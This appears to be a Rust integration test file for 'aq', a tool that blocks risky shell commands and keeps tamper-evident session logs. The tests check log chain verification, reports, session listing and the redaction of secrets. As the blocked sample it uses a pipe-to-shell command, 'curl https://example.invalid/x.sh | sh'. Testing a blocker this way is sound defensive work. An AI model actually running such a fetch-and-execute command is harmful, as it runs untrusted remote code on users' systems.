//! Session logs read back: `aq audit verify` on an intact and an edited
//! chain, `aq report` in both formats, `aq audit list` and the recap, and
//! secrets kept out of what is written and shown.

use crate::util::{Env, Session};

const PIPE_TO_SHELL: &str = "curl https://example.invalid/x.sh | sh";
const BEARER: &str = "fake-token-123";
const GITHUB: &str = "ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789";

/// One session whose command was blocked.
fn blocked_session(env: &Env) -> Session {
    env.aq(&["run", "--quiet", "--", "sh", "-c", PIPE_TO_SHELL])
        .code(126);
    env.only_session()
}

#[test]
fn audit_verify_accepts_a_session_and_names_an_edited_line() {
    let env = Env::with_policy("", "");
    let session = blocked_session(&env);
    let lines = session.log_text().lines().count();
    assert!(lines >= 4, "{}", session.log_text());
    let log = session.log_path().display().to_string();
    for what in [session.id(), session.dir.display().to_string(), log.clone()] {
        env.aq(&["audit", "verify", &what])
            .code(0)
            .stdout_has(&format!("{log}: chain intact: {lines} lines"));
    }

    // One letter of the cwd in the first decision (after the session's
    // start and its first checkpoint); the line stays a valid event.
    let text = session.log_text();
    let mut edited: Vec<String> = text.lines().map(String::from).collect();
    let i = edited
        .iter()
        .position(|l| l.contains("\"cwd\":\""))
        .expect("a decision with a cwd");
    assert!(i + 1 < edited.len(), "a line after it");
    edited[i] = edited[i].replacen("/work\"", "/wark\"", 1);
    assert_ne!(edited[i], text.lines().nth(i).unwrap(), "edited");
    serde_json::from_str::<serde_json::Value>(&edited[i]).expect("still JSON");
    std::fs::write(session.log_path(), edited.join("\n") + "\n").unwrap();
    env.aq(&["audit", "verify", &session.id()])
        .code(1)
        .stdout_has(&format!("chain broken at line {}", i + 2))
        .stdout_has(&format!("line {} was changed", i + 1));
}

#[test]
fn report_shows_the_blocked_command_in_json_and_markdown() {
    let env = Env::with_policy("", "");
    let session = blocked_session(&env);
    let json = env
        .aq(&["report", &session.id(), "--format", "json"])
        .code(0)
        .json();
    assert_eq!(json["session"], session.id());
    let blocked = &json["blocked"][0];
    assert_eq!(
        blocked["argv"],
        serde_json::json!(["sh", "-c", PIPE_TO_SHELL])
    );
    assert_eq!(blocked["rules"][0], "net-pipe-to-shell");
    assert_eq!(blocked["source"], "run");
    assert_eq!(json["counts"]["decisions"]["block"], 1, "{json}");
    assert_eq!(json["end"]["exit_code"], 126, "{json}");

    env.aq(&["report", &session.id(), "--format", "md"])
        .code(0)
        .stdout_has(&format!("# aq session report: {}", session.id()))
        .stdout_has("## Blocked")
        .stdout_has("curl https://example.invalid/x.sh \\| sh")
        .stdout_has("`net-pipe-to-shell`");
    // Markdown is the default.
    env.aq(&["report", "--latest"])
        .code(0)
        .stdout_has("## Blocked");
}

#[test]
fn audit_list_and_the_recap_show_sessions() {
    let env = Env::with_policy("", "");
    env.aq(&["audit", "--latest"])
        .code(2)
        .stderr_has("no sessions yet: start one with `aq run -- COMMAND`");
    let session = blocked_session(&env);
    env.aq(&["audit", "list"])
        .code(0)
        .stdout_has(&session.id())
        .stdout_has("1 blocked");
    env.aq(&["audit", "--latest"])
        .code(0)
        .stdout_has(&format!("aq session {}", session.id()))
        .stdout_has("1 blocked")
        .stdout_has("net-pipe-to-shell");
}

#[test]
fn secrets_in_commands_never_reach_the_log() {
    let env = Env::with_policy(
        "",
        "\"net-fetch\" = \"allow\"\n\"exec-shell-string\" = \"allow\"",
    );
    // Through shims: curl to a closed loopback port, and bash.
    env.write(
        &env.work().join("r.sh"),
        &format!(
            "curl -sS -m 5 -H 'Authorization: Bearer {BEARER}' http://127.0.0.1:9/x\nbash -c 'echo {GITHUB} >/dev/null'\nexit 0\n"
        ),
    );
    env.aq(&[
        "run",
        "--profile",
        "shims-only",
        "--quiet",
        "--",
        "sh",
        "r.sh",
    ])
    .code(0);
    // And in the command itself.
    env.aq(&[
        "run",
        "--quiet",
        "--",
        "sh",
        "-c",
        &format!("echo {GITHUB} >/dev/null"),
    ])
    .code(0);

    let sessions = env.sessions();
    assert_eq!(sessions.len(), 2);
    for session in &sessions {
        let log = session.log_text();
        assert!(
            !log.contains(BEARER) && !log.contains(&GITHUB[4..]),
            "a secret in {}:\n{log}",
            session.log_path().display()
        );
        assert!(log.contains("[REDACTED]"), "{log}");
        for format in ["md", "json"] {
            let out = env.aq(&["report", &session.id(), "--format", format]);
            out.code(0).stdout_lacks(BEARER).stdout_lacks(&GITHUB[4..]);
        }
    }
    let shimmed = sessions
        .iter()
        .find(|s| !s.decisions_for("curl").is_empty())
        .expect("the curl session");
    let curl = &shimmed.decisions_for("curl")[0];
    assert_eq!(curl["source"], "shim");
    assert!(
        curl["argv"]
            .as_array()
            .unwrap()
            .contains(&"Authorization: Bearer [REDACTED]".into()),
        "{curl}"
    );
    assert_eq!(
        shimmed.decisions_for("bash")[0]["argv"][2],
        "echo ghp_[REDACTED] >/dev/null"
    );
}

#[test]
fn audit_list_does_not_print_secrets() {
    let env = Env::with_policy("", "");
    env.aq(&[
        "run",
        "--quiet",
        "--",
        "sh",
        "-c",
        &format!("echo {GITHUB} >/dev/null"),
    ])
    .code(0);
    env.aq(&["audit", "list"])
        .code(0)
        .stdout_has(&env.only_session().id())
        .stdout_lacks(&GITHUB[4..]);
}

#[test]
fn latest_is_the_newest_session_even_within_one_second() {
    let env = Env::with_policy("", "");
    let mut seen: Vec<String> = Vec::new();
    for _ in 0..8 {
        env.aq(&["run", "--quiet", "--", "true"]).code(0);
        let newest = env
            .sessions()
            .into_iter()
            .map(|s| s.id())
            .find(|id| !seen.contains(id))
            .expect("a new session");
        let json = env.aq(&["report", "--latest", "--format", "json"]).json();
        assert_eq!(
            json["session"], newest,
            "`aq report --latest` right after session {newest} (earlier: {seen:?})"
        );
        env.aq(&["audit", "--latest"])
            .code(0)
            .stdout_has(&format!("aq session {newest}"));
        seen.push(newest);
    }
}
